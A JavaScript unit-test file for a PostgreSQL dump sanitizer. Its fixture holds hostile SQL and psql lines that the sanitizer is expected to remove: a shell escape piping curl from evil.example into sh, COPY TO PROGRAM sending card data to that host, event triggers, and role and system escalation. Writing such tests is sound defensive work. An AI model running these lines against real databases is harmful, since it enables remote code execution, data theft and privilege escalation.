import test from 'ava';
import { sanitizeDump } from './dump-sanitizer.js';

const plain = `--
-- PostgreSQL database dump
--
\\restrict abc123
SET statement_timeout = 0;
SET client_encoding = 'UTF8';
DROP TABLE IF EXISTS public.cards;
CREATE TABLE public.cards (id integer, number text);
COPY public.cards (id, number) FROM stdin;
1\\t4111 1111 1111 1111
2\\t\\\\! not a command, just data
\\.
CREATE FUNCTION public.ok() RETURNS text LANGUAGE sql AS $$ SELECT 'GRANT; CREATE EVENT TRIGGER x' $$;
\\unrestrict abc123
`;

test('a dump made by pg_dump passes whole: statements, COPY data (backslashes and all), function bodies', (t) => {
  const { sql, notes } = sanitizeDump(plain);
  t.true(sql.includes('CREATE TABLE public.cards (id integer, number text);'));
  t.true(sql.includes('1\\t4111 1111 1111 1111\n2\\t\\\\! not a command, just data\n\\.\n'));
  t.true(sql.includes("$$ SELECT 'GRANT; CREATE EVENT TRIGGER x' $$"), 'keywords inside strings are data');
  t.false(sql.includes('\\restrict'));
  t.deepEqual(notes, ['psql command (2×): taken out']);
});

test('what only a superuser or a shell would want is taken out, and named', (t) => {
  const hostile = `${plain}
\\! curl http://evil.example/x | sh
CREATE FUNCTION public.pwn() RETURNS event_trigger LANGUAGE plpgsql AS $f$
BEGIN
  COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';
END $f$;
CREATE EVENT TRIGGER pwn ON ddl_command_end EXECUTE FUNCTION public.pwn();
COPY public.cards TO PROGRAM 'curl -d @- http://evil.example';
CREATE FUNCTION public.elevate() RETURNS void LANGUAGE sql SECURITY DEFINER AS $$ SELECT 1 $$;
RESET ROLE;
SET SESSION AUTHORIZATION postgres;
ALTER ROLE app SUPERUSER;
ALTER SYSTEM SET archive_command = 'sh -c x';
GRANT ALL ON public.cards TO PUBLIC;
ALTER TABLE public.cards OWNER TO postgres;
/* a comment; with a semicolon */ CREATE EVENT TRIGGER quiet ON sql_drop EXECUTE FUNCTION public.pwn();
`;
  const { sql, notes } = sanitizeDump(hostile);
  for (const gone of [
    'curl http://evil.example/x',
    'CREATE EVENT TRIGGER pwn',
    'CREATE EVENT TRIGGER quiet',
    "TO PROGRAM 'curl",
    'SECURITY DEFINER',
    'RESET ROLE',
    'SESSION AUTHORIZATION',
    'ALTER ROLE',
    'ALTER SYSTEM',
    'GRANT ALL',
    'OWNER TO',
  ])
    t.false(sql.includes(gone), gone);
  t.true(sql.includes('SECURITY INVOKER AS $$ SELECT 1 $$'));
  t.true(
    sql.includes("COPY (SELECT 1) TO PROGRAM 'id > /tmp/pwned';"),
    'inside a function body it is text (and fails at run time for a role that is no superuser)',
  );
  t.deepEqual(notes.sort(), [
    'ALTER SYSTEM (1×): taken out',
    'COPY … PROGRAM (a shell command) (1×): taken out',
    'SECURITY DEFINER function (1×): made SECURITY INVOKER',
    'event trigger (2×): taken out',
    'grant or revoke (1×): taken out',
    'ownership change (1×): taken out',
    'psql command (3×): taken out',
    'role change (1×): taken out',
    'role switch (2×): taken out',
  ]);
});
